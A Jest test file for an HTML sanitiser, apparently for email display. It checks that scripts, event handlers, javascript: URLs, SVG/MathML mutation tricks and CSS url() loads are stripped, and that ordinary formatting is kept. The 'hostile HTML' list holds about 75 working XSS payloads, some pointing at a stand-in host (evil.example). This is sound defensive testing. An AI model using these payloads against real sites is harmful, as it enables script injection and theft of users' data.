import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { sanitiseHtml } from './sanitise-html.js';

const clean = (html: string) => sanitiseHtml(html, { 'lamp@x': 'a'.repeat(64), 'a b@x': 'b'.repeat(64) });

interface Tag {
  readonly name: string;
  readonly attributes: Readonly<Record<string, string>>;
}

/** What a browser would make elements of. */
function tagsOf(html: string): Tag[] {
  const tags: Tag[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => void tags.push({ name, attributes: { ...attributes } }),
  });
  parser.end(html);
  return tags;
}

const HARMLESS = new Set(
  'a abbr b blockquote br center code col div em font h1 hr i img li ol p pre s small span strong sub sup table tbody td th thead tr u ul'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'align alt bgcolor border cellpadding cellspacing color colspan data-attachment data-blocked-src dir face height href lang rel rowspan size span src start style target title type valign width'.split(
    ' ',
  ),
);

/** Everything in the result that could act, load or send. */
function dangersOf(html: string): string[] {
  return tagsOf(html).flatMap(({ name, attributes }) => {
    const tag = HARMLESS.has(name) ? [] : [name];
    return Object.entries(attributes).reduce<string[]>((found, [attribute, value]) => {
      const isUrl = ['href', 'src', 'data-blocked-src'].includes(attribute);
      const scheme = /^(https?:\/\/|mailto:|data:image\/(png|gif|jpe?g|webp);base64,)/;
      const bad =
        !ATTRIBUTES.has(attribute) ||
        (isUrl && !scheme.test(value)) ||
        (attribute === 'src' && !value.startsWith('data:image/')) ||
        (attribute === 'style' && /url|expression|import|position|behaviou?r|javascript|\\|@|</i.test(value));
      return bad ? [...found, `${name} ${attribute}=${value}`] : found;
    }, tag);
  });
}

describe('hostile HTML', () => {
  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1);//<</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="x"onerror="alert(1)">',
    '<img/src=x/onerror=alert(1)>',
    '<img src=javascript:alert(1)>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img srcset="https://evil.example/a.png 1x">',
    '<img src=x:x onerror\n=\nalert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="https://x.example" onclick="alert(1)" ping="https://evil.example">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example"></object>',
    '<embed src="https://evil.example">',
    '<applet code=x></applet>',
    '<form action="https://evil.example"><input name=password><button>Login</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input autofocus onfocus=alert(1)>',
    '<select onchange=alert(1)><option>x</option></select>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>body{background:url(https://evil.example/x.png)}</style>',
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    '<div style="background-image: u\\72l(https://evil.example)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="color:red;/*</style><script>alert(1)</script>*/">x</div>',
    '<div style="font-family:\'</style><img src=x onerror=alert(1)>\'">x</div>',
    '<body onload=alert(1) background="https://evil.example/x.png">x</body>',
    '<table background="https://evil.example/x.png"><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<video src=x onerror=alert(1)></video>',
    '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    '<video poster="https://evil.example/x.png"></video>',
    '<picture><source srcset="https://evil.example/x.png"></picture>',
    '<details open ontoggle=alert(1)>x</details>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<title><img src=x onerror=alert(1)></title>',
    '<template><img src=x onerror=alert(1)></template>',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<!--><img src=x onerror=alert(1)>-->',
    '<p id="location" name="cookie" class="admin">x</p>',
    '<a href="https://x.example" id="x" name="y" target="_top">x</a>',
    '<p on\u0000click=alert(1)>x</p>',
    '<p "onclick="alert(1)" x="y">x</p>',
    '<img src="cid:unknown@x" onload=alert(1)>',
    '<img src="cid:lamp@x&quot; onerror=&quot;alert(1)">',
    '<img src="https://evil.example/&quot;onerror=&quot;alert(1)">',
    '<plaintext><script>alert(1)</script>',
    '<div title="&quot;><script>alert(1)</script>">x</div>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<a href="https://x.example/%00%0d%0aSet-Cookie:a">x</a>',
    '<dialog open>x</dialog>',
    '<frameset onload=alert(1)><frame src="https://evil.example"></frameset>',
  ])('does nothing: %s', (html) => {
    const once = clean(`<p>before</p>${html}<p>after</p>`).html;
    expect(dangersOf(once)).toEqual([]);
    expect(dangersOf(clean(once).html)).toEqual([]);
  });

  it('does nothing however its pieces are put together', () => {
    const pieces = [
      '<',
      '>',
      '"',
      "'",
      '/',
      '=',
      ' ',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<script>',
      '</script>',
      '<style>',
      '</style>',
      '<svg>',
      '<math>',
      '<noscript>',
      '<template>',
      '<textarea>',
      '<title>',
      '<p ',
      '<a ',
      'href=',
      'javascript:alert(1)',
      '<img ',
      'src=',
      'onerror=',
      'alert(1)',
      'style=',
      'background:url(x)',
      'data:text/html,',
      '&#106;',
      '&lt;',
      '\u0000',
      '\n',
      '<iframe srcdoc=',
      '<form action=',
      '<table>',
      '<td>',
      '</p>',
      'cid:lamp@x',
      'https://x.example',
    ];
    const soup = fc.array(fc.constantFrom(...pieces), { maxLength: 30 }).map((chosen) => chosen.join(''));
    fc.assert(
      fc.property(soup, (html) => expect(dangersOf(clean(html).html)).toEqual([])),
      { numRuns: 3_000 },
    );
  });

  it('keeps what is beside it', () => {
    expect(clean('<p>before</p><script>x</script><p>after</p>').html).toBe('<p>before</p><p>after</p>');
  });
});

describe('a person’s HTML', () => {
  it('keeps its words, lists, tables, colours and measures', () => {
    const html =
      '<table border="1" width="100%"><tbody><tr><td colspan="2" style="color:#ff0000;padding:2px 4px">a</td></tr></tbody></table><ul><li><b>b</b></li></ul>';
    expect(clean(html).html).toBe(html);
  });

  it('opens its links apart and tells nobody where they were followed', () => {
    expect(clean('<a href="https://x.example/?a=1&amp;b=2">x</a>').html).toBe(
      '<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
    expect(clean('<a href="mailto:a@x.example">x</a>').html).toContain('href="mailto:a@x.example"');
  });

  it('does not load images from elsewhere, keeps where they are and counts them', () => {
    const { html, blockedImages } = clean('<img src="https://x.example/a.png" alt="a"><img src="//x.example/b.png">');
    expect(html).toContain('<img alt="a" data-blocked-src="https://x.example/a.png" />');
    expect(html).not.toContain(' src=');
    expect(blockedImages).toBe(2);
  });

  it('shows its own images by the part that holds them', () => {
    const { html, shownParts } = clean(
      '<img src="cid:lamp@x" width="20"><img src="CID:a%20b@x"><img src="cid:none@x">',
    );
    expect(html).toContain(`<img width="20" data-attachment="${'a'.repeat(64)}" />`);
    expect(shownParts).toEqual(['a'.repeat(64), 'b'.repeat(64)]);
  });

  it('shows images that it carries itself', () => {
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=">').html).toContain(
      'src="data:image/png;base64,iVBORw0KGgo="',
    );
  });
});
